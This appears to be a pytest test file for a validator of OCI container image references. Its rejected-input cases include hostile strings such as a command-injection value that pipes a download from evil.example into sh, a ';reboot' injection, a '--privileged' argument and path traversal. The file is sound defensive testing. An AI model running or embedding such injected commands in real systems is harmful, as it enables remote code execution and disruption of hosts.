"""Image references, by the grammar of the OCI distribution specification."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from leasing.image_reference import MAX_CHARACTERS, ImageReference, ImageReferenceError, is_slug, parse

DIGEST = "sha256:" + "0123456789abcdef" * 4


@pytest.mark.parametrize(
    ("text", "reference"),
    [
        ("ghcr.io/acme/train:1.4", ImageReference("ghcr.io", "acme/train", "1.4")),
        ("ghcr.io/acme/train", ImageReference("ghcr.io", "acme/train", "latest")),
        ("GHCR.io/acme/train", ImageReference("ghcr.io", "acme/train", "latest")),
        (f"nvcr.io/nvidia/pytorch@{DIGEST}", ImageReference("nvcr.io", "nvidia/pytorch", None, DIGEST)),
        (f"nvcr.io/nvidia/pytorch:24.01@{DIGEST}", ImageReference("nvcr.io", "nvidia/pytorch", "24.01", DIGEST)),
        ("alpine:3.20", ImageReference("docker.io", "library/alpine", "3.20")),
        ("docker.io/alpine", ImageReference("docker.io", "library/alpine", "latest")),
        (f"alpine@{DIGEST}", ImageReference("docker.io", "library/alpine", None, DIGEST)),
        ("pytorch/pytorch", ImageReference("docker.io", "pytorch/pytorch", "latest")),
        ("localhost/x", ImageReference("localhost", "x", "latest")),
        ("localhost:5000/x/y", ImageReference("localhost:5000", "x/y", "latest")),
        ("169.254.169.254:80/x/y:1", ImageReference("169.254.169.254:80", "x/y", "1")),
        ("[fd00::1]:5000/x:1", ImageReference("[fd00::1]:5000", "x", "1")),
        ("registry:443/a__b/c--d/e.f_g:_T-1.2", ImageReference("registry:443", "a__b/c--d/e.f_g", "_T-1.2")),
    ],
)
def test_a_reference_is_read_in_full(text: str, reference: ImageReference) -> None:
    assert parse(text) == reference
    assert parse(str(reference)) == reference


@pytest.mark.parametrize(
    ("text", "position"),
    [
        ("", 0),
        ("alpine", 0),
        ("pytorch_latest", 0),
        ("alpine; curl evil.example|sh #", 6),
        ("img-1;reboot", 5),
        ("--privileged", 0),
        ("ghcr.io/acme/train:1.4\n", 22),
        ("ghcr.io/аcme/train", 8),
        ("ghcr.io/acme/train :1", 18),
        ("/acme/train", 0),
        ("ghcr.io/", 8),
        ("ghcr.io//train", 8),
        ("ghcr.io/acme/", 13),
        ("ghcr.io/Acme/train", 8),
        ("ghcr.io/acme/Train", 13),
        ("ghcr.io/acme/..", 13),
        ("ghcr.io/../etc", 8),
        ("ghcr.io/a___b", 9),
        ("ghcr.io/a._b", 9),
        ("ghcr.io/-a", 8),
        ("ghcr.io/a-", 9),
        ("-ghcr.io/a", 0),
        ("Registry/x", 0),
        ("ghcr..io/a", 4),
        ("ghcr.io:/a", 8),
        ("ghcr.io:0/a", 8),
        ("ghcr.io:65536/a", 8),
        ("ghcr.io:8x/a", 8),
        ("http://ghcr.io/a", 5),
        ("ghcr.io/a:", 10),
        ("ghcr.io/a:.1", 10),
        ("ghcr.io/a:-1", 10),
        ("ghcr.io/a:1:2", 11),
        ("ghcr.io/a:1+2", 11),
        ("ghcr.io/a:" + "t" * 129, 138),
        ("ghcr.io/a@", 10),
        ("@" + DIGEST, 0),
        (":1", 0),
        ("ghcr.io/a@md5:" + "0" * 32, 10),
        ("ghcr.io/a@sha256:" + "0" * 63, 80),
        ("ghcr.io/a@sha256:" + "0" * 65, 81),
        ("ghcr.io/a@sha256:" + "0" * 63 + "F", 80),
        ("ghcr.io/a@sha256:" + "0" * 64 + ":x", 81),
        ("ghcr.io/" + "a" * 248, 256),
        ("a/" * 50_000, MAX_CHARACTERS),
    ],
)
def test_what_is_no_reference_is_refused_at_its_first_fault(text: str, position: int) -> None:
    with pytest.raises(ImageReferenceError) as refusal:
        parse(text)

    assert refusal.value.position == position
    assert refusal.value.detail


def test_the_longest_name_tag_and_digest_are_read() -> None:
    text = "ghcr.io/" + "a" * 247 + ":" + "t" * 128 + "@" + DIGEST

    assert len(text) == MAX_CHARACTERS
    assert str(parse(text)) == text


@pytest.mark.parametrize("text", ["pytorch_latest", "cuda-12.4", "a", "A1"])
def test_a_bare_word_is_a_slug(text: str) -> None:
    assert is_slug(text)


@pytest.mark.parametrize(
    "text", ["", "a/b", "a:b", "a@b", "-a", "a-", "--privileged", "a b", "a;b", "a\n", "pуtorch", "a" * 65]
)
def test_what_is_no_bare_word_is_no_slug(text: str) -> None:
    assert not is_slug(text)


@given(st.text(alphabet="aA0._-/:@[]+ \u0430", max_size=40))
def test_any_text_is_a_slug_a_reference_or_refused_at_a_place_in_it(text: str) -> None:
    try:
        reference = parse(text)
    except ImageReferenceError as fault:
        place = fault.position
    else:
        place = 0
        assert not is_slug(text)
        assert parse(str(reference)) == reference

    assert 0 <= place <= len(text)
